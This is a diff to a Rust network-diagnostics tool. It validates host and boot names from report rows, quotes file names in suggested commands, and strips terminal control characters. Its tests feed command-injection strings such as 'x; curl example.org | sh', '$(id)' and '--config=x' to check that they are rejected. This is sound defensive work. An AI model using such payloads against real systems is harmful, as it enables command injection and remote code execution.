@@ -8,8 +8,8 @@ use anyhow::{Context, Result};
 use chrono::{DateTime, SecondsFormat};
 use serde::Deserialize;
 use serde_json::{Map, Value, json};
-use transom_output::{Companion, say};
-use transom_spool::{Decision, Time, of_object, to_object};
+use transom_output::{Companion, plain, say};
+use transom_spool::{Decision, Time, host_name, of_object, to_object};
 
 use crate::ask::{Answer, Tables, text};
 use crate::questions;
@@ -62,18 +62,19 @@ pub fn details(tables: &Tables<'_>, slowest: &Answer, hosts: &Hosts<'_>) -> Resu
         .into_iter()
         .map(|row| serde_json::from_value(row).context("a row of slow_connections"))
         .collect::<Result<_>>()?;
-    if slow.is_empty() {
-        return Ok(Vec::new());
-    }
     let mut uploaded = uploaded(tables, &slow)?;
     // All hosts at once: each may take its time.
     let mut asked = Vec::new();
     for slow in slow {
         let found = uploaded.remove(&name(&slow));
-        let child = if found.is_none() { Some(hosts.ask(&slow)?) } else { None };
+        let is_asked = found.is_none() && slow.has_names();
+        let child = if is_asked { Some(hosts.ask(&slow)?) } else { None };
         asked.push((slow, found, child));
     }
     let detail = |(slow, found, child): (Slow, Option<Uploaded>, Option<Child>)| {
+        if !slow.has_names() {
+            return Ok(Detail::nameless(slow));
+        }
         let (events, fetch) = (events(tables, &slow)?, hosts.fetch(&slow));
         let known =
             Detail { slow, from: None, decisions: vec![], earlier: 0, why: None, events, fetch };
@@ -89,6 +90,22 @@ pub fn details(tables: &Tables<'_>, slowest: &Answer, hosts: &Hosts<'_>) -> Resu
     asked.into_iter().map(detail).collect()
 }
 
+impl Detail {
+    /// Of a row that no agent and no shipper wrote.
+    fn nameless(slow: Slow) -> Detail {
+        let why = "its row has no name of a host, or of a boot: somebody else wrote it".to_owned();
+        Detail {
+            slow,
+            from: None,
+            decisions: vec![],
+            earlier: 0,
+            why: Some(why),
+            events: None,
+            fetch: vec![],
+        }
+    }
+}
+
 fn name(slow: &Slow) -> String {
     format!("{}/{}/{}", slow.host, slow.boot, slow.cookie)
 }
@@ -97,7 +114,11 @@ fn name(slow: &Slow) -> String {
 type Uploaded = (Vec<Decision>, u64);
 
 fn uploaded(tables: &Tables<'_>, slow: &[Slow]) -> Result<BTreeMap<String, Uploaded>> {
-    let names = slow.iter().map(name).collect::<Vec<_>>().join(",");
+    let names: Vec<String> = slow.iter().filter(|slow| slow.has_names()).map(name).collect();
+    if names.is_empty() {
+        return Ok(BTreeMap::new());
+    }
+    let names = names.join(",");
     let given = [("connections".to_owned(), names), ("rows".to_owned(), MOST_SHOWN.to_string())];
     let question = questions::named("decisions_of")?;
     let mut found: BTreeMap<String, Uploaded> = BTreeMap::new();
@@ -134,6 +155,14 @@ fn events(tables: &Tables<'_>, slow: &Slow) -> Result<Option<String>> {
 }
 
 impl Slow {
+    /// A host may write into its rows what it wants; only what can be names goes into questions, and
+    /// into commands that somebody runs.
+    fn has_names(&self) -> bool {
+        let is_option = self.host.starts_with('-');
+        let is_boot = !self.boot.is_empty() && self.boot.chars().all(|c| c.is_ascii_alphanumeric());
+        !is_option && host_name(Some(&self.host)).is_ok() && is_boot
+    }
+
     fn was_recorded(&self) -> bool {
         self.chosen.as_deref().is_some_and(|chosen| chosen != "no")
     }
@@ -173,7 +202,7 @@ impl Hosts<'_> {
         let words: Vec<String> = self.words(slow).iter().map(|word| quoted(word)).collect();
         let of = |(what, ending)| {
             let file = format!("{}-{}.{ending}", slow.host, slow.cookie);
-            format!("transom-drill {} --fetch {what} -o {file}", words.join(" "))
+            format!("transom-drill {} --fetch {what} -o {}", words.join(" "), quoted(&file))
         };
         [("report", "html"), ("pcapng", "pcapng"), ("perfetto", "pftrace")].map(of).into()
     }
@@ -214,33 +243,39 @@ pub fn print(details: &[Detail]) -> Result<()> {
     if !details.is_empty() {
         say!("\nWhat their hosts decided:")?;
     }
-    for Detail { slow, from, decisions, earlier, why, events, fetch } in details {
+    for line in details.iter().flat_map(Detail::lines) {
+        say!("{}", plain(&line))?;
+    }
+    Ok(())
+}
+
+impl Detail {
+    fn lines(&self) -> Vec<String> {
+        let Detail { slow, from, decisions, earlier, why, events, fetch } = self;
         let from = match *from {
             Some("tables") => ", from the tables",
             Some(_) => ", from its host",
             None => "",
         };
         let why = why.as_ref().map_or(String::new(), |why| format!(": {why}"));
-        say!("{} #{}, {}{from}{why}", slow.host, slow.cookie, slow.verdict)?;
+        let mut lines =
+            vec![format!("{} #{}, {}{from}{why}", slow.host, slow.cookie, slow.verdict)];
         if *earlier > 0 {
-            say!("  {earlier} earlier ones")?;
+            lines.push(format!("  {earlier} earlier ones"));
         }
-        for decision in decisions {
-            say!("  {}", decision.line())?;
-        }
+        lines.extend(decisions.iter().map(|decision| format!("  {}", decision.line())));
         if let Some(command) = events {
-            say!("  Its events are in the tables, too:\n  {command}")?;
+            lines.push("  Its events are in the tables, too:".to_owned());
+            lines.push(format!("  {command}"));
         }
         if let Some(chosen) = slow.chosen.as_ref().filter(|_| !fetch.is_empty()) {
-            say!(
+            lines.push(format!(
                 "  It was recorded event by event ({chosen}). Its page, and files for Wireshark and Perfetto:"
-            )?;
+            ));
         }
-        for command in fetch {
-            say!("  {command}")?;
-        }
+        lines.extend(fetch.iter().map(|command| format!("  {command}")));
+        lines
     }
-    Ok(())
 }
 
 /// Into the rows that they are of.
@@ -292,6 +327,30 @@ mod tests {
             assert_eq!(command.strip_prefix(&begin), Some(end));
         }
         assert_eq!((commands.len(), hosts.fetch(&slow("no")).len()), (3, 0));
+    }
+
+    #[test]
+    fn what_a_host_wrote_where_a_name_belongs_is_in_no_command() {
+        assert!(slow("no").has_names());
+        for host in ["x; curl example.org | sh", "--config=x", "", "a\u{1b}[2J", "$(id)", "a/../b"]
+        {
+            let odd = Slow { host: host.into(), ..slow("timeouts") };
+            assert!(!odd.has_names(), "{host}");
+            let told = Detail::nameless(odd).lines();
+            assert!(told[0].contains("somebody else wrote it"), "{told:?}");
+            assert_eq!(told.len(), 1);
+        }
+        for boot in ["", "b c", "'"] {
+            assert!(!Slow { boot: boot.into(), ..slow("no") }.has_names(), "{boot}");
+        }
+        // Each word of a command is one word to a shell, whatever it is.
+        let hosts = Hosts { router: "tcp/[::1]:7447", config: None };
+        let odd = Slow { host: "x; id".into(), ..slow("timeouts") };
+        assert!(
+            hosts.fetch(&odd).iter().all(|command| {
+                command.contains(" 'x; id' ") && command.contains(" -o 'x; id-7.")
+            })
+        );
     }
 
     #[test]
